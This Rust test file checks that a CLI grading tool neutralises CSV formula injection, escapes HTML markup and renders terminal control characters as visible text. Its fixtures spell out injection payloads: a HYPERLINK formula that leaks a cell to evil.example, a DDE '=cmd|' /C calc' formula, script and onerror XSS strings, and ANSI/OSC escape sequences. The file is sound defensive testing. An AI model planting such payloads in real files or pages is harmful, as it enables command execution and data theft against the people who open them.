//! Nothing injected into what people open (issue 17, items 4-6): CSV for Excel carries no cell that
//! Excel would run as a formula while plain CSV keeps every value as read, and a workbook stores
//! such values as text; an HTML page shows markup from the data or the rulebook as text; and the
//! terminal receives no control character from a file, only its visible form.
//!
//! The hostile inventories are `tests/hostile/inject/`: `formulas.csv` (and its 2024 edition, for
//! `diff`) holds formulas in ids, names, regions, a pass-through column and its header, besides plain
//! numbers that must stay numbers; `controls.csv` holds ESC and OSC sequences, bare CR, tab, LF, DEL,
//! NUL, a C1 control and a bidirectional override in names, ids, regions, counts and a header.

#![allow(
    clippy::expect_used,
    reason = "a test fails loudly when its fixture is broken"
)]

mod common;

use std::path::PathBuf;
use std::process::Output;

use calamine::{Data, Reader};
use common::files::{Scratch, path_str, read_root};
use common::run::{code, outlet, run, stderr, stdout};
use common::{csv, with};
use serde_yaml::Value as Yaml;

const FORMULAS: &str = "tests/hostile/inject/formulas.csv";
const FORMULAS_2024: &str = "tests/hostile/inject/formulas-2024.csv";
const CONTROLS: &str = "tests/hostile/inject/controls.csv";

/// The first outlet's id in `formulas.csv`: a formula with a link.
const LINK_ID: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")";

/// Whether Excel would run `f` as a formula: it begins with `=`, `+`, `-`, `@`, tab or CR (or the
/// full-width forms) and is neither a plain number nor a lone `-`. Written here, apart from the
/// tool's own test, from OWASP's description.
fn risky(f: &str) -> bool {
    let starts = f.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']);
    let number =
        f.chars().all(|c| c.is_ascii_digit() || "+-.eE".contains(c)) && f.parse::<f64>().is_ok();
    starts && f != "-" && !number
}

/// The records of a CSV text (a byte-order mark skipped), every field as written.
fn records(text: &str) -> Vec<Vec<String>> {
    let text = text.strip_prefix('\u{feff}').unwrap_or(text);
    ::csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| {
            r.expect("the report is CSV")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

fn ran(args: &[&str]) -> Output {
    let out = run(args);
    assert!(
        code(&out) < 2,
        "`outlet {}` ran: {}",
        args.join(" "),
        stderr(&out)
    );
    out
}

/// Every command that writes CSV for Excel, with the outlets of `formulas.csv`.
fn csv_commands() -> Vec<Vec<&'static str>> {
    vec![
        vec!["grade", FORMULAS],
        vec!["grade", FORMULAS, "-j", "1"],
        vec!["gaps", FORMULAS],
        vec!["gaps", FORMULAS, "--target", "1"],
        vec!["explain", FORMULAS, "@A3"],
        vec!["explain", FORMULAS, LINK_ID],
        vec!["summary", FORMULAS],
        vec!["diff", FORMULAS_2024, FORMULAS],
    ]
}

/// A rulebook whose every text is a formula: the names of grades, types and fields, rule titles
/// and texts, citations — what `grade` and `gaps` render once and copy into every line.
fn formula_rulebook(dir: &Scratch) -> PathBuf {
    derived_rulebook(dir, "formulas.yaml", |s| s.insert_str(0, "=1+"))
}

#[test]
fn csv_for_excel_neutralises_every_formula_and_keeps_numbers() {
    let dir = Scratch::new();
    let formulas = formula_rulebook(&dir);
    for (command, rules) in csv_commands()
        .into_iter()
        .flat_map(|c| [(c.clone(), None), (c, Some(path_str(&formulas)))])
    {
        for lang in ["en", "zh"] {
            let with_format = |format: &[&str]| {
                let mut args = command.clone();
                args.extend(["--lang", lang, "--fail-on", "never"]);
                if let Some(rules) = rules {
                    args.extend(["--rules", rules]);
                }
                args.extend(format);
                stdout(&ran(&args))
            };
            let plain = with_format(&["--format", "csv"]);
            let excel = with_format(&["--excel"]);
            let what = format!("{} --lang {lang} --rules {rules:?}", command.join(" "));
            assert!(excel.starts_with('\u{feff}'), "{what}: a byte-order mark");
            assert_eq!(
                excel.matches('\n').count(),
                excel.matches("\r\n").count(),
                "{what}: CRLF line ends"
            );
            let (plain, excel) = (records(&plain), records(&excel));
            assert_eq!(plain.len(), excel.len(), "{what}: as many lines");
            let mut neutralised = 0;
            for (p, e) in plain.iter().zip(&excel) {
                assert_eq!(p.len(), e.len(), "{what}: as many fields");
                for (p, e) in p.iter().zip(e) {
                    assert!(!risky(e), "{what}: `{e}` reaches Excel as a formula");
                    if risky(p) {
                        assert_eq!(*e, format!("'{p}"), "{what}: neutralised with a `'`");
                        neutralised += 1;
                    } else {
                        assert_eq!(e, p, "{what}: any other field is as plain CSV has it");
                    }
                }
            }
            assert!(neutralised > 0, "{what}: the report holds some formula");
        }
    }
}

/// `grade` and `gaps` write their CSV lines straight (`GradeLines`, `GapLines`) besides the
/// writer's plain path: with formulas in the inventory and in the rulebook, both make the same
/// bytes, with and without `--excel`.
#[test]
fn the_fast_lines_neutralise_as_the_writer_does() {
    use outlet::eval::Evaluator;
    use outlet::inventory::{InputFormat, Inventory};
    use outlet::report::outlets::{
        GapLines, GradeLines, gaps_columns, gaps_rows, grade_columns, grade_row,
    };
    use outlet::report::{Format, Meta, Rows, Writer};
    use outlet::rulebook::Rulebook;
    use outlet::text::Lang;

    let dir = Scratch::new();
    let book = Rulebook::load(&formula_rulebook(&dir)).expect("the rulebook loads");
    let text = read_root(FORMULAS);
    let mut inventory = Inventory::from_reader(
        Box::new(std::io::Cursor::new(text.into_bytes())),
        InputFormat::Csv,
        FORMULAS,
        &book,
    )
    .expect("the inventory opens");
    let (mut outlets, mut problems) = (Vec::new(), Vec::new());
    while let Some(o) = inventory.next_outlet(&mut problems).expect("it reads") {
        outlets.push(o);
    }
    assert_eq!(outlets.len(), 4, "{problems:?}");
    let extras: Vec<String> = outlets[0].extras.iter().map(|_| "x".into()).collect();
    let ev = Evaluator::new(&book, common::as_of());
    let text = |rows: Rows| match rows {
        Rows::Encoded { bytes, .. } => String::from_utf8(bytes).expect("UTF-8"),
        Rows::Typed(_) => panic!("a CSV maker encodes its rows"),
    };
    let mut neutralised = 0;
    for lang in [Lang::Zh, Lang::En] {
        for excel in [false, true] {
            let maker = |columns| {
                Writer::new(
                    Vec::new(),
                    Format::Csv,
                    lang,
                    &book,
                    Meta::rulebook("test", &book),
                    "rows",
                    columns,
                )
                .excel(excel)
                .row_maker()
            };
            let (grades, gaps) = (maker(grade_columns(&extras).0), maker(gaps_columns().0));
            let grade_lines = GradeLines::new(&book, grades.csv().expect("a CSV maker"));
            let gap_lines = GapLines::new(&book, gaps.straight().expect("a CSV maker"), lang);
            for o in &outlets {
                let a = ev.assess(o);
                let mut line = String::new();
                grade_lines.write_brief(&ev, o, &ev.brief(o), &mut line);
                assert_eq!(line, text(grades.make([grade_row(&ev, o, &a)])), "{}", o.id);
                for target in [None, Some(1), Some(2), Some(3)] {
                    let (brief, failing) = ev.brief_gaps(o, target);
                    let mut lines = String::new();
                    gap_lines.write(&ev, o, &brief, target, &failing, &mut lines);
                    let made = text(gaps.make(gaps_rows(&ev, o, &a, target, lang)));
                    assert_eq!(lines, made, "{} to {target:?}", o.id);
                    if excel {
                        neutralised += lines.matches(",'=1+").count();
                        for r in records(&lines).iter().flatten() {
                            assert!(!risky(r), "`{r}` reaches Excel as a formula");
                        }
                    }
                }
                if excel {
                    for r in records(&line).iter().flatten() {
                        assert!(!risky(r), "`{r}` reaches Excel as a formula");
                    }
                }
            }
        }
    }
    assert!(neutralised > 0, "the rulebook's texts were neutralised");
}

#[test]
fn plain_csv_keeps_formulas_and_numbers_byte_for_byte() {
    let out = stdout(&ran(&[
        "grade",
        FORMULAS,
        "--format",
        "csv",
        "--lang",
        "en",
        "--fail-on",
        "never",
    ]));
    assert!(!out.starts_with('\u{feff}') && !out.contains("\r\n"));
    let header = out.lines().next().expect("a header");
    assert!(
        header.ends_with(",\"=HYPERLINK(\"\"http://evil.example\"\",\"\"列\"\")\""),
        "{header}"
    );
    for line in [
        "\n\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",=cmd|' /C calc'!A0,subdistrict,",
        ",+安宁县,@东城街道,2,-2+3+cmd|' /C calc'!A0,-3\n",
        "\n-3,＝1+1,community,",
        ",-0.5,+5\n",
        "\n@A3,=1+1,community,",
        ",\"\r=1+1\",\"=SUM(1,2)\"\n",
        ",-,-1e5\n",
    ] {
        assert!(out.contains(line), "plain CSV holds {line:?}:\n{out}");
    }
    assert!(!out.contains(",'") && !out.contains("\n'"), "no `'` added");
}

#[test]
fn the_same_outlets_as_csv_for_excel_keep_their_numbers() {
    let out = stdout(&ran(&["grade", FORMULAS, "--excel", "--lang", "en"]));
    for line in [
        "\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\",'=cmd|' /C calc'!A0,",
        ",'+安宁县,'@东城街道,2,'-2+3+cmd|' /C calc'!A0,-3\r\n",
        "\r\n-3,'＝1+1,community,",
        ",-0.5,+5\r\n",
        "\r\n'@A3,'=1+1,",
        ",\"'\r=1+1\",\"'=SUM(1,2)\"\r\n",
        ",-,-1e5\r\n",
    ] {
        assert!(out.contains(line), "CSV for Excel holds {line:?}:\n{out}");
    }
    let header = out.lines().next().expect("a header");
    assert!(
        header.ends_with(",\"'=HYPERLINK(\"\"http://evil.example\"\",\"\"列\"\")\""),
        "{header}"
    );
}

#[test]
fn a_workbook_stores_formulas_as_text() {
    let dir = Scratch::new();
    let path = dir.dir.path().join("grades.xlsx");
    for command in [&["grade", FORMULAS][..], &["gaps", FORMULAS]] {
        let mut args = command.to_vec();
        args.extend(["--format", "xlsx", "--output", path_str(&path)]);
        args.extend(["--lang", "en", "--fail-on", "never"]);
        ran(&args);
        let mut book = calamine::open_workbook_auto(&path).expect("the workbook opens");
        let mut found = Vec::new();
        for name in book.sheet_names() {
            let formulas = book.worksheet_formula(&name).expect("its formulas");
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "{}: sheet {name} holds no formula",
                command[0]
            );
            let range = book.worksheet_range(&name).expect("a sheet");
            for (_, _, cell) in range.used_cells() {
                if let Data::String(s) = cell
                    && [LINK_ID, "=cmd|' /C calc'!A0", "@A3", "=SUM(1,2)"].contains(&s.as_str())
                {
                    found.push(s.clone());
                }
            }
        }
        for value in [LINK_ID, "=cmd|' /C calc'!A0", "@A3"] {
            assert!(
                found.iter().any(|f| f == value),
                "{}: `{value}` is a text cell: {found:?}",
                command[0]
            );
        }
    }
}

/// What an attacker puts in every text: a script, and the escape from an attribute.
const MARKUP: &str = "<script>alert(1)</script>\"><img src=x onerror=alert(1)>'";

/// The built-in rulebook with every text a report can show changed by `edit`: titles, grade and
/// type names and mottos, field and vocabulary names and descriptions, rule titles, requirements,
/// explanations, interpretations, quotes and articles (citations), structure checks, its id and
/// version. An overlay cannot rename grades or types, so this is a whole rulebook; the original
/// Chinese names stay aliases, so the tests' inventories still read.
fn derived_rulebook(dir: &Scratch, name: &str, edit: fn(&mut String)) -> PathBuf {
    fn mark(v: &mut Yaml, edit: fn(&mut String)) {
        match v {
            Yaml::Mapping(m) => {
                let name = m
                    .get("name")
                    .and_then(|n| n.get("zh"))
                    .and_then(Yaml::as_str)
                    .map(str::to_string);
                if let (Some(name), true) = (name, m.contains_key("key")) {
                    let aliases = m
                        .entry("aliases".into())
                        .or_insert_with(|| Yaml::Sequence(Vec::new()));
                    if let Yaml::Sequence(s) = aliases {
                        s.push(Yaml::String(name));
                    }
                }
                for (k, val) in m.iter_mut() {
                    match (k.as_str(), val) {
                        (Some("zh" | "en" | "article" | "quote"), Yaml::String(s)) => edit(s),
                        (_, val) => mark(val, edit),
                    }
                }
            }
            Yaml::Sequence(s) => s.iter_mut().for_each(|v| mark(v, edit)),
            _ => {}
        }
    }
    let mut book: Yaml = serde_yaml::from_str(&read_root("rules/builtin.yaml")).expect("YAML");
    mark(&mut book, edit);
    for key in ["id", "version"] {
        if let Some(Yaml::String(s)) = book.get_mut(key) {
            edit(s);
        }
    }
    let path = dir.write(name, &serde_yaml::to_string(&book).expect("YAML"));
    let check = outlet(&["rules", "check", path_str(&path), "--lang", "en"]);
    assert_eq!(code(&check), 0, "the rulebook is valid: {}", stdout(&check));
    path
}

/// Asserts that `page` shows `MARKUP` only as text: no element or attribute of it survives.
fn assert_inert(page: &str, what: &str) {
    for raw in ["<script>alert", "<img", "onerror=alert(1)>"] {
        assert!(
            !page.contains(raw),
            "{what}: `{raw}` reaches the page unescaped:\n{}",
            page.lines()
                .filter(|l| l.contains(raw))
                .collect::<Vec<_>>()
                .join("\n")
        );
    }
    assert_eq!(
        page.matches("<script").count(),
        1,
        "{what}: one script, the page's own"
    );
}

#[test]
fn html_shows_markup_from_the_rulebook_and_the_data_as_text() {
    let dir = Scratch::new();
    let rules = derived_rulebook(&dir, "markup.yaml", |s| s.push_str(MARKUP));
    let rules = path_str(&rules);
    let id = "X-1\"><img src=x onerror=alert(1)>";
    let hostile = |id| {
        with(&[
            ("网点编号", id),
            ("网点名称", "<script>alert(1)</script>"),
            ("县", "<img src=x onerror=alert(1)>县"),
            ("申报级别", "一级"),
            ("专职人员数", "<script>alert(1)</script>"),
            ("备注", "\"><img src=x onerror=alert(1)>"),
            ("<script>alert(1)</script>", "x"),
        ])
    };
    let new = dir.write("new.csv", &csv(&[hostile(id), hostile("B-2")]));
    let old = dir.write("old.csv", &csv(&[hostile(id), hostile("<b>closed</b>")]));
    let (new, old) = (path_str(&new), path_str(&old));
    let commands: Vec<Vec<&str>> = vec![
        vec!["grade", new],
        vec!["gaps", new],
        vec!["gaps", new, "--target", "1"],
        vec!["explain", new, id],
        vec!["summary", new],
        vec!["diff", old, new],
        vec!["rules", "list"],
        vec!["rules", "coverage"],
        vec!["rules", "explain", "G3-WINDOW"],
    ];
    for command in commands {
        for lang in ["zh", "en"] {
            let mut args = command.clone();
            args.extend(["--rules", rules, "--format", "html", "--lang", lang]);
            if command[0] != "rules" {
                args.extend(["--fail-on", "never"]);
            }
            let out = if command[0] == "rules" {
                outlet(&args)
            } else {
                ran(&args)
            };
            assert_eq!(code(&out), 0, "{}", stderr(&out));
            let page = stdout(&out);
            let what = format!("{} --lang {lang}", command.join(" "));
            assert!(
                page.contains("&lt;script&gt;alert(1)"),
                "{what}: markup shown"
            );
            assert_inert(&page, &what);
        }
    }
}

/// Whether `s` holds a character a terminal acts on rather than shows: a C0 or C1 control other
/// than LF, DEL, or a bidirectional override or isolate.
fn acting(s: &str) -> Option<char> {
    s.chars().find(|&c| {
        (c.is_control() && c != '\n')
            || matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

fn assert_terminal_safe(out: &Output, what: &str) {
    for (stream, text) in [("stdout", stdout(out)), ("stderr", stderr(out))] {
        if let Some(c) = acting(&text) {
            panic!("{what}: {stream} sends {c:?} to the terminal:\n{text:?}");
        }
    }
}

#[test]
fn terminal_output_shows_control_characters_instead_of_sending_them() {
    let by_lang = |args: &[&str], lang: &str| {
        let mut all = args.to_vec();
        all.extend(["--lang", lang, "--fail-on", "never"]);
        ran(&all)
    };
    for lang in ["zh", "en"] {
        let commands: Vec<Vec<&str>> = vec![
            vec!["grade", CONTROLS],
            vec!["grade", CONTROLS, "--format", "markdown"],
            vec!["gaps", CONTROLS],
            vec!["explain", CONTROLS, "C-1"],
            vec!["summary", CONTROLS],
            vec!["summary", CONTROLS, "--format", "markdown"],
            vec!["diff", FORMULAS, CONTROLS],
        ];
        let mut tables = String::new();
        for command in commands {
            let out = by_lang(&command, lang);
            let what = format!("{} --lang {lang}", command.join(" "));
            assert_terminal_safe(&out, &what);
            tables.push_str(&stdout(&out));
        }
        let grade = stdout(&by_lang(&["grade", CONTROLS], lang));
        for shown in [
            "站\\x1b]0;pwned\\x07\\x1b[2J",
            "东街␍社区 达标",
            "C-2␍OK",
            "文昌\\u{202e}站␉\\x9b31m␊line2",
        ] {
            assert!(grade.contains(shown), "the table shows {shown:?}:\n{grade}");
        }
        for shown in ["安宁\\x1b[31m县", "安宁\\x01县", "3\\x1b[8m"] {
            assert!(
                tables.contains(shown),
                "some table shows {shown:?}:\n{tables}"
            );
        }
        let out = by_lang(&["grade", CONTROLS], lang);
        let problems = stderr(&out);
        for shown in ["3\\x1b[8m", "\\x7f"] {
            assert!(
                problems.contains(shown),
                "the problem lines show {shown:?}:\n{problems}"
            );
        }
    }
}

#[test]
fn an_error_that_echoes_a_value_shows_its_control_characters() {
    let out = outlet(&["rules", "explain", "G4-\x1b]0;pwned\x07X\rOK"]);
    assert_eq!(code(&out), 2);
    assert_terminal_safe(&out, "rules explain");
    assert!(
        stderr(&out).contains("G4-\\x1b]0;pwned\\x07X␍OK"),
        "{}",
        stderr(&out)
    );
    let out = run(&["explain", CONTROLS, "NO\x1b[2JNE"]);
    assert_terminal_safe(&out, "explain of an unknown id");
    // A file name from a shared folder, echoed by the error that it cannot be read.
    let out = run(&["grade", "missing\x1b]0;pwned\x07\r.csv"]);
    assert_eq!(code(&out), 2);
    assert_terminal_safe(&out, "grade of a missing file");
    assert!(
        stderr(&out).contains("missing\\x1b]0;pwned\\x07␍.csv"),
        "{}",
        stderr(&out)
    );
    let out = run(&["grade", CONTROLS, "--waivers", "missing\x1b[2J.yaml"]);
    assert_terminal_safe(&out, "grade with missing waivers");
    // The command line's own errors echo the argument too.
    let out = outlet(&["grade", CONTROLS, "--format", "csv\rtable\x07"]);
    assert_eq!(code(&out), 2);
    assert_terminal_safe(&out, "an invalid --format");
}

/// `rules check` and `rules show` print a rulebook's own texts.
#[test]
fn a_rulebook_with_control_characters_is_shown_safely() {
    let dir = Scratch::new();
    // YAML's escapes put the control characters into the loaded texts.
    let path = dir.write(
        "controls.yaml",
        "schema: 1\nextends: builtin\nid: \"province\\e]0;pwned\\a\"\nversion: \"1\\r2\"\n\
         title: {zh: \"标题\\e[2J\", en: \"title\\r\"}\n",
    );
    let path = path_str(&path);
    for args in [
        vec!["rules", "check", path],
        vec!["rules", "show", "--rules", path],
        vec!["rules", "show", "--resolved", "--rules", path],
        vec!["rules", "list", "--rules", path],
    ] {
        let out = outlet(&args);
        assert_terminal_safe(&out, &args.join(" "));
    }
    let bad = dir.write(
        "bad.yaml",
        "schema: 1\nextends: builtin\nid: \"x\\e[2J\"\nnope: 1\n",
    );
    let out = outlet(&["rules", "check", path_str(&bad)]);
    assert_terminal_safe(&out, "rules check of a bad overlay");
}
